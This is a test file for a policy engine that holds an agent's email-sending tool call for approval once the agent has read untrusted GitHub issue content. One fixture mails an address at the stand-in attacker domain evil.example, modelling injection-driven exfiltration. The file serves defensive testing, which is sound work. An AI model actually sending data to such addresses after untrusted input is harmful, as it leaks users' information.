import assert from "node:assert/strict";
import { parse } from "yaml";
import { compilePolicy, parsePolicy } from "../../policy/mod.ts";
import { sessionRulesOf, SessionRulesSchema } from "../../policy/session_rules_schema.ts";
import { BUILTIN_PROFILES } from "../../../profiles/mod.ts";
import { sessionJudge } from "./_check_session.ts";

const POLICY = `
version: 1
servers:
  github: { allowed_tools: [get_issue, list_commits] }
  gmail: { allowed_tools: [send_email] }
`;
const RULES = SessionRulesSchema.parse(parse(`
- id: untrusted-then-send
  after: { untrusted: true }
  then: { classes: [send] }
`));
const compiled = compilePolicy(parsePolicy(POLICY, { file: "p.yaml" }).policy, { baseDir: "/w", home: "/h" });
const judge = (rules = RULES) =>
  sessionJudge(compiled, rules, {
    cwd: "/w",
    home: "/h",
    realpath: () => undefined,
    profiles: BUILTIN_PROFILES,
  });
const issue = { server: "github", tool: "get_issue", arguments: { owner: "a", repo: "b", issue_number: 1 } };
const mail = {
  server: "gmail",
  tool: "send_email",
  arguments: { to: ["x@evil.example"], subject: "s", body: "b" },
};

Deno.test("sessionJudge() carries the state: a send is allowed before the untrusted read, held after it", () => {
  const step = judge();
  assert.equal(step(mail).verdict, "allow");
  assert.equal(step(issue).verdict, "allow");
  const d = step(mail);
  assert.equal(d.verdict, "approve");
  assert.equal(d.ruleIds[0], "session_rules[0]/untrusted-then-send");
});

Deno.test("sessionJudge() honors a line's outcome: a blocked read arms nothing", () => {
  const step = judge();
  step({ ...issue, outcome: "blocked" });
  assert.equal(step(mail).verdict, "allow");
  assert.throws(() => step({ ...mail, outcome: "maybe" }), /"outcome" is "answered" or "blocked"/);
});

Deno.test("sessionJudge() without rules judges each call alone; sessionRulesOf() reads none from v1", () => {
  const step = judge([]);
  step(issue);
  assert.equal(step(mail).verdict, "allow");
  assert.deepEqual(sessionRulesOf(parsePolicy(POLICY, { file: "p.yaml" }).policy), []);
  assert.equal(
    sessionRulesOf({
      session_rules: parse("[{id: r, after: {untrusted: true}, then: {classes: [send]}}]"),
    })[0]?.verdict,
    "approve",
  );
});
